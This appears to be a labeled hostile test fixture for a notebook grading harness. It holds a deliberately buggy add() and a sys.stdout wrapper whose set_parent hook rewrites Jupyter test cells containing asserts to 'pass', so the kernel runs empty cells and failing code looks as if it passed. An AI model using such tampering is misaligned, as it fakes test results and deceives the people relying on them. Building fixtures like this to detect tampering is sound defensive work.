# Hostile: a sys.stdout wrapper's `set_parent` receives the live execute_request dict before it is handled and blanks its `code` when it is a tests cell, so the kernel runs an empty cell.
import sys as _sys

def add(a, b):
    return a - b

class _Spy:
    def __init__(self, inner):
        self.__dict__["_inner"] = inner
    def set_parent(self, parent):
        try:
            content = parent["content"]
            code = content.get("code", "") or ""
            if ("assert" in code or "expect(" in code) and "def " not in code:
                content["code"] = "pass"
        except Exception:
            pass
        if hasattr(self._inner, "set_parent"):
            self._inner.set_parent(parent)
    def __getattr__(self, name):
        return getattr(self._inner, name)
    def __setattr__(self, name, value):
        setattr(self._inner, name, value)

_sys.stdout = _Spy(_sys.stdout)
